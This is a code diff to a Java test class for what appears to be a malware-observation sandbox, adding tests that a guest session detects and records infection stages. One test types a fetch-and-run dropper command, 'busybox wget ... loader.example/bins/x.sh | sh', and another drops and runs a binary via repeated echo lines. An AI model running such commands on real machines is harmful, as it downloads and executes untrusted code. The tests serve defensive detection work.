@@ -14,6 +14,7 @@ import java.util.OptionalInt;
 import java.util.stream.Collectors;
 import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
+import org.malassay.behavior.CallsCounted;
 import org.malassay.behavior.Event;
 import org.malassay.behavior.Facet;
 import org.malassay.behavior.FacetState;
@@ -29,6 +30,8 @@ import org.malassay.environment.Limits;
 import org.malassay.environment.Opening;
 import org.malassay.environment.Order;
 import org.malassay.environments.tracing.Recorder;
+import org.malassay.infection.InfectionFold;
+import org.malassay.infection.StageSeen;
 import org.malassay.options.Options;
 import org.malassay.sample.Sample;
 
@@ -39,9 +42,6 @@ public abstract class LoginContract extends GuestHarness {
 
   /** Control and D. */
   private static final int END_OF_LOGIN = 4;
-
-  /** Control and S, by which a terminal shows nothing any more. */
-  private static final int STOP = 19;
 
   private static final int SIGHUP = 1;
 
@@ -58,7 +58,7 @@ public abstract class LoginContract extends GuestHarness {
 
   @Override
   protected Duration time() {
-    return Duration.ofSeconds(40);
+    return Duration.ofMinutes(2);
   }
 
   protected final Assay type(String session) throws Exception {
@@ -181,7 +181,7 @@ public abstract class LoginContract extends GuestHarness {
   protected void aSessionOfAnyBytesIsTypedToItsEnd() throws Exception {
     String bytes =
         IntStream.range(1, 256)
-            .filter(c -> c != '\n' && c != END_OF_LOGIN && c != STOP)
+            .filter(c -> c != '\n' && c != END_OF_LOGIN)
             .mapToObj(c -> String.valueOf((char) c))
             .collect(Collectors.joining());
     Assay assay =
@@ -196,6 +196,45 @@ public abstract class LoginContract extends GuestHarness {
     assertThat(assay.execution().ending()).as(shown).isEqualTo(new Ending.Exited(0));
     assertThat(shown).contains("a prompt: # \r\nstill here\r\n").contains("377 and the end\r\n");
     assertThat(marks(assay)).hasSize(6);
+  }
+
+  @Test
+  protected void aScriptThatAShellReadsAsItIsFetchedIsAScriptThatWasRun() throws Exception {
+    String command = "busybox wget -q -O - http://loader.example/bins/x.sh | sh";
+    InfectionFold fold = new InfectionFold(List.of(command));
+    type(command + "\n").events().forEach(fold::accept);
+
+    assertThat(fold.infection().stages())
+        .filteredOn(StageSeen::succeeded)
+        .extracting(StageSeen::stage)
+        .contains("6a");
+  }
+
+  /** Each of its 80,000 letters is read and shown by a call: more than are told of one number. */
+  @Test
+  protected void aLongProgramThatEchoWritesIsRecordedWhole() throws Exception {
+    byte[] program = LoadedProgram.of(20_000);
+    StringBuilder session = new StringBuilder("cd /tmp\n");
+    for (int at = 0; at < program.length; at += LoadedProgram.LINE) {
+      session
+          .append("echo -ne '")
+          .append(LoadedProgram.escapes(program, at))
+          .append("' >> loaded\n");
+    }
+    Assay assay = type(session + "chmod 777 loaded\n./loaded; echo status $?\n");
+
+    assertThat(assay.execution().stdout().text()).contains("status 7\r\n");
+    assertThat(assay.execution().recording().states(Recorder.FACETS))
+        .containsEntry(Facet.CALLS, FacetState.OBSERVED);
+    assertThat(
+            assay.calls("write").stream()
+                .filter(it -> it.path().equals(Optional.of("/tmp/loaded")))
+                .mapToLong(SystemCall::result)
+                .sum())
+        .isEqualTo(program.length);
+    assertThat(assay.all(ProgramStarted.class)).anyMatch(it -> it.program().equals("/tmp/loaded"));
+    assertThat(assay.all(CallsCounted.class))
+        .anyMatch(it -> it.name().equals("read") && it.calls() > 4L * program.length);
   }
 
   @Test
